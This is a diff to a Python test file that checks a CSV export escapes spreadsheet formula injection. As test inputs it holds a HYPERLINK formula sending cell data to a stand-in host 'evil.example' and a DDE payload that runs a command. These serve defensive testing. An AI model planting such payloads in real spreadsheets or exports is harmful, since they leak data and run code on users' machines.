@@ -14,22 +14,27 @@ from diplotime.pipeline import check_file
 
 
 @pytest.mark.parametrize(
-    ("cell", "numeric", "expected"),
+    ("cell", "expected"),
     [
-        ('=HYPERLINK("http://evil.example/?"&A1,"x")', False, '\'=HYPERLINK("http://evil.example/?"&A1,"x")'),
-        ("+cmd|' /C calc'!A0", False, "'+cmd|' /C calc'!A0"),
-        ("@SUM(1+1)", False, "'@SUM(1+1)"),
-        ("-2+3", False, "'-2+3"),
-        ("\t=1+1", False, "'\t=1+1"),
-        ("\r=1+1", False, "'\r=1+1"),
-        ("-33.5", True, "-33.5"),
-        ("-2+3", True, "'-2+3"),
-        ("Treaty of Shimoda", False, "Treaty of Shimoda"),
-        ("", False, ""),
+        ('=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("-2+3", "'-2+3"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("\n=1+1", "'\n=1+1"),
+        ("-33.5", "-33.5"),
+        ("+7", "+7"),
+        ("-1e5", "-1e5"),
+        ("- 2", "'- 2"),
+        ("-", "'-"),
+        ("Treaty of Shimoda", "Treaty of Shimoda"),
+        ("1945", "1945"),
+        ("", ""),
     ],
 )
-def test_neutralise(cell: str, numeric: bool, expected: str) -> None:
-    assert export.neutralise(cell, numeric) == expected
+def test_neutralise(cell: str, expected: str) -> None:
+    assert export.neutralise(cell) == expected
 
 
 def events_from(csv_text: str) -> pd.DataFrame:
@@ -58,3 +63,26 @@ def test_exported_csv_reimports_to_the_same_events() -> None:
     again = check_file(export.to_safe_csv(events).encode(), "again.csv").events
     assert list(again["title"]) == ["=1+2", "+Treaty"]
     assert list(again["id"]) == list(events["id"])
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1+1",
+            "\r=1+1"]
+
+
+def test_every_text_cell_of_the_csv_export_is_neutralised_while_numbers_stay_numbers() -> None:
+    rows = []
+    for i, formula in enumerate(FORMULAS):
+        row = {c: "" for c in schema.COLUMN_NAMES}
+        row.update(id=f"e{i}", date="2019-01-22", title=formula, actors=formula, location=formula,
+                   description=formula, source=formula, tags="-30", lat=-33.5, lon=12.0)
+        rows.append(row)
+    written = export.to_safe_csv(pd.DataFrame(rows))
+    parsed = list(csv.DictReader(io.StringIO(written, newline="")))
+    assert len(parsed) == len(FORMULAS)
+    for formula, row in zip(FORMULAS, parsed, strict=True):
+        for col in ("title", "actors", "location", "description", "source"):
+            assert row[col] == "'" + formula, (col, row[col])
+        assert (row["lat"], row["lon"], row["tags"]) == ("-33.5", "12.0", "-30")
+    for row in parsed:  # no cell a spreadsheet would evaluate
+        for value in row.values():
+            assert not value.startswith(export.FORMULA_START) or value in ("-33.5", "-30")
